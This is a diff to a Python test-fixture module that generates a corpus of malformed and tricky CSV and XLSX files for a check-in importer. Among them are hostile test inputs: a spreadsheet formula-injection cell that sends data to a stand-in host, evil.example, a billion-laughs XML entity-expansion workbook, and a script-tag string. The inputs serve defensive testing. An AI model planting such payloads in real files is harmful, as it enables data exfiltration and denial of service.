@@ -30,6 +30,8 @@ FIXED_TIME = dt.datetime(2027, 5, 31, 12, 0)
 ZIP_BOMB_BYTES = 300 * 2**20
 LONGEST_CELL = 32_767
 CHECK_IN_HEADER = ["kr_id", "date", "value", "status", "confidence", "comment", "updated_by"]
+OVERLONG_CELL = LONGEST_CELL + 7_233  # 40,000 characters: more than a spreadsheet cell holds
+EXCEL_1904_SHIFT = 1462  # days between Excel's two date systems
 
 
 def csv_bytes(rows: list[list[object]], delimiter: str = ",", encoding: str = "utf-8") -> bytes:
@@ -73,6 +75,99 @@ def _fixed_zip_times(data: bytes) -> bytes:
                     "%Y-%m-%dT%H:%M:%SZ").encode(), content)
             target.writestr(info, content)
     return buffer.getvalue()
+
+
+def xlsx_with_raw_cells(rows: list[list[object]], raw_cells: dict[str, bytes], sheet_name: str = "CheckIns") -> bytes:
+    """A workbook whose cells named in `raw_cells` (e.g. "C2") hold the given cell XML as Excel saves
+    it (a formula with its saved result, an error), which openpyxl cannot write: each such cell is
+    written as a placeholder string first, then replaced in the sheet's XML."""
+    import re
+
+    placeholders = {reference: f"@@{reference}@@" for reference in raw_cells}
+    rows = [list(row) for row in rows]
+    for reference, placeholder in placeholders.items():
+        column, row = ord(reference[0]) - ord("A"), int(reference[1:]) - 1
+        rows[row][column] = placeholder
+    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes({sheet_name: rows})))
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
+        for entry in source.infolist():
+            content = source.read(entry.filename)
+            if entry.filename == "xl/worksheets/sheet1.xml":
+                for reference, placeholder in placeholders.items():
+                    cell = re.compile(rf'<c r="{reference}"[^>]*><is><t>{placeholder}</t></is></c>'.encode())
+                    content = cell.sub(lambda _: raw_cells[reference], content)
+            target.writestr(entry, content)
+    return buffer.getvalue()
+
+
+def xlsx_1904(rows: list[list[object]]) -> bytes:
+    """A workbook in Excel for Mac's old 1904 date system (date cells and plain serial numbers)."""
+    import openpyxl
+    from openpyxl.utils.datetime import CALENDAR_MAC_1904
+
+    workbook = openpyxl.Workbook()
+    workbook.epoch = CALENDAR_MAC_1904
+    sheet = workbook.active
+    sheet.title = "CheckIns"
+    for row in rows:
+        sheet.append(row)
+    workbook.properties.created = workbook.properties.modified = FIXED_TIME
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return _fixed_zip_times(buffer.getvalue())
+
+
+def xlsx_merged_title(rows: list[list[object]], merged: str) -> bytes:
+    """A sheet whose title row is merged across the table's width, as people dress up a report."""
+    import openpyxl
+
+    workbook = openpyxl.Workbook()
+    sheet = workbook.active
+    sheet.title = "Sales progress"
+    for row in rows:
+        sheet.append(row)
+    sheet.merge_cells(merged)
+    workbook.properties.created = workbook.properties.modified = FIXED_TIME
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return _fixed_zip_times(buffer.getvalue())
+
+
+def billion_laughs() -> bytes:
+    """A workbook whose shared strings declare nested entities that expand to 10^9 "lol"s (3 GB) when
+    a parser resolves them."""
+    import re
+
+    import xlsxwriter  # unlike openpyxl, it puts text in a sharedStrings part
+
+    buffer = io.BytesIO()
+    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
+    workbook.set_properties({"created": FIXED_TIME})
+    sheet = workbook.add_worksheet("CheckIns")
+    for number, row in enumerate([CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 512000, None, 7, "LAUGH"]]):
+        sheet.write_row(number, 0, row)
+    workbook.close()
+    data = buffer.getvalue()
+    entities = '<!ENTITY lol0 "lol">' + "".join(
+        f'<!ENTITY lol{level} "{("&lol%d;" % (level - 1)) * 10}">' for level in range(1, 10))
+    source = zipfile.ZipFile(io.BytesIO(data))
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
+        for entry in source.infolist():
+            content = source.read(entry.filename)
+            if entry.filename == "xl/sharedStrings.xml":
+                content = re.sub(rb"(<\?xml[^>]*\?>)", rb"\1<!DOCTYPE sst [" + entities.encode() + rb"]>", content)
+                content = content.replace(b"LAUGH", b"&lol9;")
+            info = zipfile.ZipInfo(entry.filename, FIXED_TIME.timetuple()[:6])
+            info.compress_type = zipfile.ZIP_DEFLATED
+            target.writestr(info, content)
+    return buffer.getvalue()
+
+
+def workbook_with_empty_sheets(sheets: dict[str, list[list[object]]]) -> bytes:
+    """A workbook with these sheets, an empty one (no cell at all) first."""
+    return xlsx_bytes({"Sheet1": [], **sheets})
 
 
 def filled_template(store: Store, team: str, fills: dict[str, dict[str, object]]) -> bytes:
@@ -217,9 +312,56 @@ def corpus(store: Store) -> dict[str, bytes]:
                                                       ["ENG-O2-KR2", "2027-05-31", None, "gOOD pROGRESS", 7, None, None]]),
         "html_in_comment.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 512000, None, 7,
                                                             "<script>alert('x')</script><b>bold</b> **not bold**", None]]),
-        "value_moved_backwards.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 400000, None, 6,
+        "value_moved_backwards.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 300000, None, 6,
                                                                   "Deal slipped out", None],
                                                 ["SAL-O2-KR4", "2027-05-31", 85, None, 6, None, None]]),
+        # Encodings and separators.
+        "utf8_bom.csv": b"\xef\xbb\xbf" + csv_bytes([["kr_id", "date", "value", "comment"],
+                                                   ["SAL-O2-KR1", "2027-05-31", "512000", "Déjà signé"]]),
+        "utf16be_bom.csv": b"\xfe\xff" + csv_bytes([["kr_id", "date", "value", "comment"],
+                                                   ["SAL-O2-KR1", "2027-05-31", "512000", "Größer – ça marche"]],
+                                                  encoding="utf-16-be"),
+        "utf16be_without_bom.csv": csv_bytes([["kr_id", "date", "value"], ["SAL-O2-KR1", "2027-05-31", "512000"]],
+                                             encoding="utf-16-be"),
+        "pipe_separated.csv": csv_bytes([["kr_id", "date", "value", "comment"],
+                                         ["SAL-O2-KR1", "2027-05-31", "512000", "Two deals, both signed"]],
+                                        delimiter="|"),
+        "tab_separated_utf8.csv": csv_bytes([["kr_id", "date", "value", "confidence"],
+                                             ["SAL-O2-KR1", "2027-05-31", "512000", "7"],
+                                             ["SAL-O2-KR3", "2027-05-31", "23,5", "8"]], delimiter="\t"),
+        "decimal_comma_quoted.csv": csv_bytes([["kr_id", "date", "value"], ["SAL-O2-KR3", "2027-05-31", "23,5"],
+                                               ["SAL-O2-KR1", "2027-05-31", "1,250,000"]]),
+        # Dates: day first unless a date can only be month first; Excel for Mac's 1904 date system.
+        "ambiguous_dates.csv": csv_bytes([["kr_id", "date", "value"], ["SAL-O2-KR1", "03/04/2027", "350000"],
+                                          ["SAL-O2-KR2", "05/31/2027", "15"]]),
+        "epoch_1904.xlsx": xlsx_1904([["kr_id", "date", "value"], ["SAL-O2-KR1", dt.datetime(2027, 5, 31), 512000],
+                                      ["SAL-O2-KR2", 46538 - EXCEL_1904_SHIFT, 15]]),
+        # Layouts: a merged title above the header, empty sheets, repeated headers.
+        "merged_title_cells.xlsx": xlsx_merged_title([["Sales — progress for the May review"], [None],
+                                                      ["KR id", "Date", "Current value", "Comment"],
+                                                      ["SAL-O2-KR1", "2027-05-31", 512000, "Two deals closed"]],
+                                                     "A1:D1"),
+        "title_rows_above_header.csv": csv_bytes([["Sales progress export"], ["Generated 2027-05-31 by the CRM"], [],
+                                                  ["KR ID", "Check-in date", "Actual"],
+                                                  ["SAL-O2-KR1", "2027-05-31", "512000"]]),
+        "empty_sheet_beside_data.xlsx": workbook_with_empty_sheets({"CheckIns": [CHECK_IN_HEADER, sales_row]}),
+        "only_empty_sheets.xlsx": xlsx_bytes({"Sheet1": [], "Sheet2": []}),
+        "duplicate_headers.csv": csv_bytes([["kr_id", "date", "value", "Value", "comment"],
+                                            ["SAL-O2-KR1", "2027-05-31", "", "512000", "which one?"]]),
+        # Cells: formulas and their results, Excel errors, text too long for a cell, formulas in text.
+        "formula_with_saved_result.xlsx": xlsx_with_raw_cells(
+            [["kr_id", "date", "value"], ["SAL-O2-KR1", "2027-05-31", None]],
+            {"C2": b'<c r="C2"><f>450000+62000</f><v>512000</v></c>'}),
+        "excel_error_value.xlsx": xlsx_with_raw_cells(
+            [["kr_id", "date", "value", "comment"], ["SAL-O2-KR1", "2027-05-31", None, "from the CRM sheet"],
+             ["SAL-O2-KR2", "2027-05-31", None, "lookup failed"]],
+            {"C2": b'<c r="C2" t="e"><f>B9/B10</f><v>#DIV/0!</v></c>',
+             "C3": b'<c r="C3" t="e"><f>VLOOKUP(A3,Data!A:B,2,FALSE)</f><v>#N/A</v></c>'}),
+        "overlong_cell.csv": csv_bytes([CHECK_IN_HEADER, ["SAL-O2-KR1", "2027-05-31", 512000, None, 7,
+                                                          "x" * OVERLONG_CELL, None]]),
+        "formula_injection_comment.csv": csv_bytes([CHECK_IN_HEADER, [
+            "SAL-O2-KR1", "2027-05-31", 512000, None, 7, '=HYPERLINK("http://evil.example/?d="&A1,"Click")', None]]),
+        "billion_laughs.xlsx": billion_laughs(),
     }
     return files
 
